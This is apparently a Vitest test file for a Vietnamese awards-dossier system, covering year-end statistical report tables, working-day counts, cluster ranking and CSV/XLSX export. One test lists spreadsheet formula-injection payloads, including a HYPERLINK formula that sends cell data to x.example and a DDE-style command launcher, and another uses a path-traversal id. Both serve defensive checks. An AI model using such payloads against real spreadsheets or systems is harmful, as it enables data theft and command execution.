import readXlsxFile from 'read-excel-file/node';
import { inflateRawSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { reportWorkbook } from '#adapters/report-workbook';
import { rankCluster } from '#domain/clusters';
import { planChange, planCreation, systemActor } from '#domain/dossier-change';
import { ValidationError } from '#domain/errors';
import { reportPrefix, tableCsv } from '#domain/report-render';
import { RenderReportRequest } from '#schemas/input/render-report';
import { parseInput } from '#schemas/validation';
import { buildYearEndReport, closingCounts, diffCounts, procedureDeadline, type Counts } from '#domain/year-end';
import { findAwardForm } from '#domain/catalogue';
import { awardNames } from '#domain/catalogue-texts';
import type { DossierRecord } from '#schemas/records';

const nominees: DossierRecord['nominees'] = [
  { name: 'Nguyễn Thị A', recipientType: 'individual', category: 'directWorker', gender: 'female' },
  { name: 'Trần Văn B', recipientType: 'individual', category: 'departmentLeader', gender: 'male' },
  { name: 'Công ty X', recipientType: 'collective', category: 'enterprise' },
  { name: 'Hộ ông C', recipientType: 'household' },
  { name: 'Lê D', recipientType: 'individual' },
];

/** A dossier driven through real lifecycle steps (planChange), submitted and closed at the given instants. */
function closedDossier(status: 'Awarded' | 'NotApproved' | 'Withdrawn', submittedAt: string, closedAt: string, over: Partial<DossierRecord> = {}): DossierRecord {
  const { dossier } = planCreation(
    { id: `d-${Math.random()}`, unitId: over.unitId ?? 'so-y-te', createdBy: systemActor, fields: { awardCode: over.awardCode ?? 'bangKhenChuTichTinh', kind: over.kind ?? 'regular', year: 2025, title: 't', nominees: over.nominees ?? nominees } },
    new Date(submittedAt),
  );
  const events = status === 'Awarded' ? (['submit', 'passCompleteness', 'appraiseEligible', 'passCouncil', 'approve'] as const) : status === 'NotApproved' ? (['submit', 'passCompleteness', 'appraiseIneligible'] as const) : (['submit', 'withdraw'] as const);
  let d = dossier;
  events.forEach((event, i) => {
    const last = i === events.length - 1;
    d = planChange(d, { event, actor: systemActor, ...(event === 'submit' ? { set: { submittedAt } } : {}) }, new Date(last ? closedAt : submittedAt)).after;
  });
  return d;
}

/** The text entries of a zip written by the workbook adapter (local headers, deflate or stored). */
function unzipEntries(zip: Buffer): Record<string, string> {
  const out: Record<string, string> = {};
  for (let at = 0; zip.readUInt32LE(at) === 0x04034b50; ) {
    const method = zip.readUInt16LE(at + 8);
    const size = zip.readUInt32LE(at + 18);
    const nameLength = zip.readUInt16LE(at + 26);
    const extra = zip.readUInt16LE(at + 28);
    const name = zip.subarray(at + 30, at + 30 + nameLength).toString('utf8');
    const data = zip.subarray(at + 30 + nameLength + extra, at + 30 + nameLength + extra + size);
    out[name] = (method === 8 ? inflateRawSync(data) : data).toString('utf8');
    at += 30 + nameLength + extra + size;
  }
  return out;
}

describe('closing counts', () => {
  it('counts an awarded dossier by outcome, form, kind, unit, recipient category, gender and working days', () => {
    // Submitted Friday 23/01/2026, closed Friday 27/02/2026: Tết 2026 (14–22/02, verified) is not counted.
    const d = closedDossier('Awarded', '2026-01-23T03:00:00Z', '2026-02-27T03:00:00Z');
    const c = closingCounts(d);
    expect(d.closedAt).toBe('2026-02-27T03:00:00.000Z');
    expect(c).toMatchObject({
      'dossiers|Awarded': 1,
      'form|bangKhenChuTichTinh|Awarded': 1,
      'kind|regular|Awarded': 1,
      'unit|so-y-te|Awarded': 1,
      'awards|bangKhenChuTichTinh|individual|directWorker': 1,
      'awards|bangKhenChuTichTinh|individual|departmentLeader': 1,
      'awards|bangKhenChuTichTinh|individual|other': 1,
      'awards|bangKhenChuTichTinh|collective|enterprise': 1,
      'awards|bangKhenChuTichTinh|household|household': 1,
      'unitAwards|so-y-te': 5,
      'gender|female': 1,
      'gender|male': 1,
      'gender|unknown': 1,
      'days|bangKhenChuTichTinh|n': 1,
    });
    // 23/01 → 27/02: 25 weekdays minus the Tết working days (16, 17, 18, 19, 20/02) = 20.
    expect(c['days|bangKhenChuTichTinh|sum']).toBe(20);
    expect(procedureDeadline(findAwardForm('bangKhenChuTichTinh'))).toBeGreaterThanOrEqual(20);
    expect(c['days|bangKhenChuTichTinh|late']).toBeUndefined();
  });

  it('marks a dossier that took longer than its procedure deadline as late, and counts no awards when not approved', () => {
    const d = closedDossier('NotApproved', '2025-03-03T03:00:00Z', '2025-09-01T03:00:00Z');
    const c = closingCounts(d);
    expect(c['days|bangKhenChuTichTinh|late']).toBe(1);
    expect(Object.keys(c).filter((k) => k.startsWith('awards|'))).toEqual([]);
    expect(c['dossiers|NotApproved']).toBe(1);
  });

  it('sets closedAt only on the move into a terminal status', () => {
    const { dossier } = planCreation({ id: 'd-1', unitId: 'u', createdBy: systemActor, fields: { awardCode: 'bangKhenChuTichTinh', kind: 'regular', year: 2025, title: 't', nominees } }, new Date('2025-01-02T00:00:00Z'));
    const submitted = planChange(dossier, { event: 'submit', actor: systemActor }, new Date('2025-01-03T00:00:00Z')).after;
    expect(submitted.closedAt).toBeUndefined();
    const withdrawn = planChange(submitted, { event: 'withdraw', actor: systemActor }, new Date('2025-01-04T00:00:00Z')).after;
    expect(withdrawn.closedAt).toBe('2025-01-04T00:00:00.000Z');
    const noted = planChange(withdrawn, { action: 'note', actor: systemActor }, new Date('2025-02-01T00:00:00Z')).after;
    expect(noted.closedAt).toBe('2025-01-04T00:00:00.000Z');
  });
});

describe('the year-end report', () => {
  const dossiers = [
    closedDossier('Awarded', '2025-03-03T03:00:00Z', '2025-03-20T03:00:00Z'),
    closedDossier('Awarded', '2025-03-03T03:00:00Z', '2025-03-20T03:00:00Z', { awardCode: 'chienSiThiDuaTinh', unitId: 'so-giao-duc', nominees: [{ name: 'E', recipientType: 'individual', category: 'directWorker', gender: 'female' }] }),
    closedDossier('NotApproved', '2025-03-03T03:00:00Z', '2025-03-10T03:00:00Z', { unitId: 'so-giao-duc' }),
    closedDossier('Withdrawn', '2025-03-03T03:00:00Z', '2025-03-04T03:00:00Z', { kind: 'thematic' }),
  ];
  const counts = dossiers.reduce<Counts>((acc, d) => {
    for (const [k, v] of Object.entries(closingCounts(d))) acc[k] = (acc[k] ?? 0) + v;
    return acc;
  }, {});
  const clusters = [{ clusterId: 'cum-1', name: 'Cụm 1', type: 'sectoral' as const, memberUnitIds: ['so-y-te', 'so-giao-duc'], pledges: 2, topUnitId: 'so-giao-duc' }];
  const history = [{ year: 2024, counts: { 'awards|bangKhenChuTichTinh|individual|directWorker': 1, 'awards|bangKhenChuTichTinh|individual|other': 3 } }];
  const report = buildYearEndReport({ year: 2025, counters: counts, recount: counts, clusters, history });
  const table = (id: string) => report.tables.find((t) => t.id === id)!;

  it('lays out form 0603 by form and recipient, with a total row', () => {
    const t = table('0603');
    expect(t.columns[0]!.vi).toBe('Hình thức khen thưởng');
    const bangKhen = t.rows.find((r) => r[0] === awardNames.bangKhenChuTichTinh.vi)!;
    // total, collectives, of which enterprises, households, individuals, 5 categories…, others
    expect(bangKhen.slice(1)).toEqual([5, 1, 1, 1, 3, 0, 1, 0, 0, 1, 1]);
    const cstd = t.rows.find((r) => r[0] === awardNames.chienSiThiDuaTinh.vi)!;
    expect(cstd.slice(1)).toEqual([1, 0, 0, 0, 1, 0, 0, 0, 0, 1, 0]);
    expect(t.rows.at(-1)!.slice(1)).toEqual([6, 1, 1, 1, 4, 0, 1, 0, 0, 2, 1]);
  });

  it('reports outcomes, clusters, the direct-worker share by year and the verification', () => {
    expect(report.totals).toEqual({ closedDossiers: 4, awarded: 2, awards: 6, directWorkerShare: 0.5 });
    expect(report.directWorkerShareByYear).toEqual([{ year: 2024, share: 0.25, individuals: 4 }, { year: 2025, share: 0.5, individuals: 4 }]);
    expect(table('ket-qua-xet').rows.at(-1)).toEqual(['Tổng cộng', 4, 2, 1, 0, 1]);
    expect(table('cum-khoi').rows).toEqual([['Cụm 1', 'Khối', 2, 2, 2, 6, 'so-giao-duc']]);
    expect(table('0601').rows[1]).toEqual(['Khối thi đua', 1, 2, 2]);
    expect(report.verification).toEqual({ matched: true, differences: [] });
  });

  it('uses the recount and says so when the counters disagree; the hash tells versions apart', () => {
    const drifted = { ...counts, 'dossiers|Awarded': 3 };
    const checked = buildYearEndReport({ year: 2025, counters: drifted, recount: counts, clusters, history });
    expect(checked.verification.matched).toBe(false);
    expect(checked.verification.differences).toEqual([{ key: 'dossiers|Awarded', counters: 3, recount: 2 }]);
    expect(checked.totals.awarded).toBe(2);
    expect(checked.contentHash).not.toBe(report.contentHash);
    expect(buildYearEndReport({ year: 2025, counters: counts, recount: counts, clusters, history }).contentHash).toBe(report.contentHash);
    expect(diffCounts({ a: 1 }, { b: 1 })).toHaveLength(2);
  });

  it('writes CSV with a BOM and quoted cells, and an XLSX whose cells hold the same numbers', async () => {
    const csv = tableCsv({ id: 'x', title: { vi: 't', en: 't' }, columns: [{ vi: 'Tên, "đơn vị"', en: '' }, { vi: 'Số', en: '' }], rows: [['Sở Y tế', 3]] });
    expect(csv).toBe('\uFEFF"Tên, ""đơn vị""","Số"\r\n"Sở Y tế",3\r\n');
    const workbook = await reportWorkbook(report.tables);
    const sheets = await readXlsxFile(Buffer.from(workbook));
    expect(sheets.map((s) => s.sheet)).toEqual(report.tables.map((t) => t.id));
    for (const t of report.tables) {
      const sheet = sheets.find((s) => s.sheet === t.id)!;
      expect(sheet.data[0]![0]).toBe(t.title.vi);
      expect(sheet.data[1]).toEqual(t.columns.map((c) => c.vi));
      expect(sheet.data.slice(2)).toEqual(t.rows.map((r) => [...r]));
    }
  });
  it('neutralises spreadsheet formulas in every CSV and XLSX cell written from text (OWASP CSV injection)', async () => {
    // Text a person typed (a cluster, unit or nominee name) that a spreadsheet would otherwise run as a formula.
    const hostile = ['=HYPERLINK("http://x.example/?"&A1,"Bấm")', '+1+cmd|/C calc!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '＝1+1'];
    const table = { id: 'x', title: { vi: '=tiêu đề', en: 't' }, columns: [{ vi: '@cột', en: '' }, { vi: 'Số', en: '' }], rows: [...hostile.map((h) => [h, -5] as [string, number]), ['Sở Y tế', 3] as [string, number]] };
    const csvRows = tableCsv(table).replace(/^\uFEFF/, '').split('\r\n').slice(0, -1);
    expect(csvRows).toHaveLength(hostile.length + 2);
    // Every text cell that began with a formula character now begins with a single quote, inside quotes; numbers stay numbers.
    expect(csvRows[0]).toBe(`"'@cột","Số"`);
    hostile.forEach((h, i) => expect(csvRows[i + 1]).toBe(`"'${h.replace(/"/g, '""')}",-5`));
    expect(csvRows.at(-1)).toBe('"Sở Y tế",3');
    // The workbook keeps each value as typed text, marked with Excel's quote prefix so editing the cell cannot turn it into a formula.
    const workbook = Buffer.from(await reportWorkbook([table]));
    const [sheet] = await readXlsxFile(workbook, { trim: false });
    expect(sheet!.data.slice(2).map((r) => r[0])).toEqual([...hostile, 'Sở Y tế']);
    const xml = unzipEntries(workbook);
    expect(xml['xl/styles.xml']).toMatch(/quotePrefix="1"/);
    const quoted = [...xml['xl/worksheets/sheet1.xml']!.matchAll(/<c r="([A-Z]+\d+)" s="(\d+)" t="inlineStr">/g)].filter(([, , s]) => xml['xl/styles.xml']!.split('<xf ').filter((x) => x.includes('xfId'))[Number(s)]?.includes('quotePrefix="1"'));
    expect(quoted.map(([, ref]) => ref).sort()).toEqual(['A1', 'A2', ...hostile.map((_, i) => `A${i + 3}`)].sort());
    expect(xml['xl/worksheets/sheet1.xml']).not.toMatch(/<f>/);
  });
  it("crosses to the renderer intact: its request schema takes every report the job builds, as JSON, and refuses names that would leave the version's folder", () => {
    const request = { year: 2025, version: 1, generatedAt: '2025-12-20T00:00:00.000Z', report };
    const parsed = RenderReportRequest.safeParse(JSON.parse(JSON.stringify(request)));
    expect(parsed.success && parsed.data).toEqual(JSON.parse(JSON.stringify(request)));
    const withTable = (id: string) => ({ ...request, report: { ...report, tables: [{ ...report.tables[0]!, id }] } });
    expect(() => parseInput(RenderReportRequest, withTable('../../documents/x'))).toThrow(expect.objectContaining({ field: 'report.tables.0.id' }));
    expect(() => parseInput(RenderReportRequest, { ...request, report: { ...report, counts: { a: 'one' } } })).toThrow(expect.objectContaining({ field: 'report.counts' }));
    expect(() => parseInput(RenderReportRequest, { ...request, version: 0 })).toThrow(expect.objectContaining({ field: 'version' }));
    expect(reportPrefix(2025, 3, report.contentHash)).toBe(`reports/2025/v3-${report.contentHash.slice(0, 12)}/`);
  });
});

describe('cluster ranking', () => {
  const members = ['xa-a', 'xa-b', 'xa-c'];
  it('ranks by score, highest first', () => {
    expect(rankCluster(members, [{ unitId: 'xa-b', score: 80 }, { unitId: 'xa-a', score: 95 }, { unitId: 'xa-c', score: 80 }])).toEqual([
      { unitId: 'xa-a', score: 95, rank: 1 },
      { unitId: 'xa-b', score: 80, rank: 2 },
      { unitId: 'xa-c', score: 80, rank: 2 },
    ]);
  });
  it.each([
    ['a unit outside the cluster', [{ unitId: 'xa-a', score: 1 }, { unitId: 'xa-b', score: 2 }, { unitId: 'xa-z', score: 3 }], 'scores.2.unitId'],
    ['a unit scored twice', [{ unitId: 'xa-a', score: 1 }, { unitId: 'xa-a', score: 2 }, { unitId: 'xa-c', score: 3 }], 'scores.1.unitId'],
    ['a member not scored', [{ unitId: 'xa-a', score: 1 }, { unitId: 'xa-b', score: 2 }], 'scores'],
    ['a tie for first place', [{ unitId: 'xa-a', score: 9 }, { unitId: 'xa-b', score: 9 }, { unitId: 'xa-c', score: 3 }], 'scores'],
  ])('refuses %s, naming the field', (_name, scores, field) => {
    let error: unknown;
    try {
      rankCluster(members, scores);
    } catch (e) {
      error = e;
    }
    expect(error).toBeInstanceOf(ValidationError);
    expect((error as ValidationError).field).toBe(field);
  });
});

describe('form 0602 and the proposals not yet answered', () => {
  it('counts state-level awards by form and recipient from the counters, keeps them out of 0603, and lists what is still forwarded', async () => {
    const { buildYearEndReport } = await import('#domain/year-end');
    // Prepare: one Huân chương Lao động hạng Ba to a person, one Cờ thi đua của Chính phủ to a collective, one proposal unanswered
    const counts = { 'awards|huanChuongLaoDongHangBa|individual|otherLeader': 1, 'awards|coThiDuaChinhPhu|collective|collective': 1, 'dossiers|Awarded': 2 };
    const report = buildYearEndReport({
      year: 2055, counters: counts, recount: counts, clusters: [], history: [], unitNames: { 'so-giao-duc': 'Sở Giáo dục và Đào tạo' },
      forwarded: [{ awardCode: 'chienSiThiDuaToanQuoc', unitId: 'so-giao-duc', title: 'Đề nghị CSTĐ toàn quốc', proposal: { number: '12/TTr-UBND', date: '2055-12-20' }, awaiting: { collective: 0, individual: 2, household: 0 } }],
    });
    const table = (id: string) => report.tables.find((t) => t.id === id)!;
    // Assess
    expect(table('0602').rows.find((r) => r[0] === 'Huân chương Lao động hạng Ba')).toEqual(['Huân chương Lao động hạng Ba', 1, 0, 0, 1]);
    expect(table('0602').rows.find((r) => r[0] === 'Cờ thi đua của Chính phủ')).toEqual(['Cờ thi đua của Chính phủ', 1, 1, 0, 0]);
    expect(table('0602').rows.at(-1)).toEqual(['Tổng cộng', 2, 1, 0, 1]);
    expect(table('0603').rows.at(-1)![1]).toBe(0);
    expect(table('trinh-cap-tren-chua-co-ket-qua').rows).toEqual([['Chiến sĩ thi đua toàn quốc', 'Sở Giáo dục và Đào tạo', 'Đề nghị CSTĐ toàn quốc', 'Tờ trình số 12/TTr-UBND ngày 20/12/2055', 0, 2]]);
  });
});
